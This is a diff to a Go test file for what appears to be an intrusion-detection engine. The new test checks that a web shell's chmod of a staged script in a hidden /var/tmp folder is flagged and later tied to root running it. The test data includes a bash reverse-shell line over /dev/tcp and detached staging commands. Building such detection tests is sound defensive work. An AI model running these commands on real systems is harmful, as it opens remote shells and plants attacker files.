@@ -1,6 +1,7 @@
 package detect
 
 import (
+	"strings"
 	"testing"
 	"time"
 )
@@ -110,4 +111,39 @@ func reverseShell(e *Engine, s *synth) int {
 	e.Observe(s.exec(210, 201, 33, "www-data", "/tmp", "/usr/bin/bash", "bash", "-c", "bash -i >& /dev/tcp/127.0.0.1/4444 0>&1"), s.tree)
 	e.Observe(s.connect(210, 201, 33, "/usr/bin/bash", "127.0.0.1", 4444), s.tree)
 	return 210
+}
+
+// TestMadeRunnableByFlaggedCommand: a web shell's command that moves into
+// its staging folder and makes what it uploaded there executable (`cd
+// /var/tmp/.c && chmod 755 r.sh`) names the file no watch saw written;
+// root running it later, under init, is the escalation (shop-compare: the
+// root script a preloaded library forked inside sudo). The cd decides
+// the folder: the same chmod with the web root's cwd names another file,
+// and an application's unflagged command marks nothing.
+func TestMadeRunnableByFlaggedCommand(t *testing.T) {
+	for _, c := range []struct {
+		name, cmd string
+		want      bool
+	}{
+		{"cd then chmod, flagged", "cd /var/tmp/.c && chmod 755 r.sh && setsid sh w.sh < /dev/null > /dev/null 2>&1 &", true},
+		{"chmod +x by its absolute name, flagged", "chmod +x /var/tmp/.c/r.sh; nohup /var/tmp/.c/w.sh >/dev/null 2>&1 &", true},
+		{"chmod without the cd: another folder", "chmod 755 r.sh && setsid sh /var/tmp/.c/w.sh < /dev/null > /dev/null 2>&1 &", false},
+		{"chmod 644", "cd /var/tmp/.c && chmod 644 r.sh && setsid sh w.sh < /dev/null > /dev/null 2>&1 &", false},
+	} {
+		t.Run(c.name, func(t *testing.T) {
+			e, s := webShellScene(t)
+			f := e.Observe(s.exec(210, 200, 33, "www-data", "/var/www/html", "/usr/bin/dash", "sh", "-c", c.cmd), s.tree)
+			if len(f) == 0 || f[0].Severity < SeverityMedium {
+				t.Fatalf("the web shell's command: %v, want a finding of medium or more", ids(f))
+			}
+			s.t = s.t.Add(20 * time.Second)
+			got := findingOf(e.Observe(s.exec(300, 1, 0, "root", "/", "/usr/bin/dash", "sh", "/var/tmp/.c/r.sh"), s.tree), RulePlantedFileRun)
+			if (got != nil) != c.want {
+				t.Fatalf("root running r.sh under init: %v, want a planted-file-run %v", got, c.want)
+			}
+			if got != nil && (got.Stage != StageSuspiciousSpawn || !strings.Contains(got.Reason+droppedReason(e.state, got.Event), "made executable")) {
+				t.Errorf("root running r.sh: stage %d, reason %q, want the escalation (4), the chmod said", got.Stage, got.Reason+droppedReason(e.state, got.Event))
+			}
+		})
+	}
 }
